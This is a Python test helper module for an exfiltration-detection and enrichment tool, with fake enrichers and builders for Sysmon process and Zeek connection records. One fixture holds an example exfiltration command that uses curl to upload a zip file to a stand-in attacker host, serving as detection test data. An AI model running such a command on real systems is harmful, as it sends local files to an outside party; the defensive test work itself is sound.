"""Enrichers, sources and findings to test with."""

import asyncio
import json
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, ClassVar

from exfilwatch.findings.finding import Finding
from exfilwatch.findings.incident import group
from exfilwatch.findings.store import Store
from exfilwatch_playbooks.enrichment.enricher import Means, OfIndicator, Options, Quota
from exfilwatch_playbooks.enrichment.history import History, Paths
from exfilwatch_playbooks.enrichment.indicator import Indicator, Kind
from exfilwatch_playbooks.enrichment.model import Answer, Fact, Status
from exfilwatch_playbooks.enrichment.subject import Subject, of_incident

from ..findings.made import START, make  # noqa: TID252 (tests are no package on the path)

NOW = datetime(2024, 5, 2, tzinfo=UTC)
UPLOAD = make("a", CommandLine="curl -T C:\\x\\q3.zip https://files.evil-host.net/in", Hashes="SHA256=" + "ab" * 32)


def subject_of(*findings: Finding) -> Subject:
    """The subject that the one incident of these findings is."""
    (incident,) = group(findings)
    return of_incident(incident, findings)


def means(store: Store | None = None, *sources: Any, now: datetime = NOW) -> Means:
    return Means(store, History(sources), clock=lambda: now)


def fact(key: str, value: str = "", number: float | None = None, about: str = "evil.net", **more: Any) -> Fact:
    return Fact(enricher="x", key=key, label=key, value=value, number=number, about=about, time=NOW, **more)


class Echo(OfIndicator):
    """An outsider that remembers what it was asked."""

    name = "echo"
    title = "Echo"
    kinds = frozenset(Kind)
    outside: ClassVar[bool] = True
    asked: ClassVar[list[Indicator]] = []
    limits: ClassVar[Quota] = Quota()

    @property
    def quota(self) -> Quota:
        return self.limits

    async def look_up(self, given: Indicator) -> Sequence[Answer]:
        self.asked.append(given)
        return [Answer(key="echo.said", label="Said", value=given.value)]


class Broken(Echo):
    name = "broken"

    async def look_up(self, given: Indicator) -> Sequence[Answer]:
        raise ZeroDivisionError("password=hunter2")


class Slow(Echo):
    """One that takes too long, and does not even end when it is told to."""

    name = "slow"

    class Settings(Options):
        deadline: timedelta = timedelta(milliseconds=30)

    async def look_up(self, given: Indicator) -> Sequence[Answer]:
        for _ in range(2):
            try:
                await asyncio.sleep(60)
            except asyncio.CancelledError:
                continue
        return []


def process(time: datetime, host: str, user: str, line: str, **more: Any) -> dict[str, Any]:
    """A process start as flat Sysmon has it."""
    image = more.pop("Image", "C:\\Windows\\System32\\" + line.split()[0].removesuffix(".exe") + ".exe")
    return {
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "UtcTime": f"{time:%Y-%m-%d %H:%M:%S.%f}"[:-3],
        "Computer": host,
        "User": user,
        "Image": image,
        "CommandLine": line,
        **more,
    }


def connection(time: datetime, source: str, target: str, sent: int, port: int = 443) -> dict[str, Any]:
    """A connection as Zeek's conn.log in JSON has it."""
    return {
        "ts": time.timestamp(),
        "uid": f"C{time.timestamp():.3f}{source}{target}{sent}",
        "id.orig_h": source,
        "id.orig_p": 50_000,
        "id.resp_h": target,
        "id.resp_p": port,
        "proto": "tcp",
        "conn_state": "SF",
        "orig_bytes": sent,
        "resp_bytes": 2_000,
        "orig_ip_bytes": sent + 4_000,
    }


def written(path: Path, records: Sequence[dict[str, Any]]) -> Paths:
    """A file with these records, as a source."""
    path.write_text("".join(json.dumps(each) + "\n" for each in records))
    return Paths((str(path),))


def days(count: float) -> datetime:
    """So many days before the findings' time."""
    return START - timedelta(days=count)


__all__ = ["START", "Status", "make"]
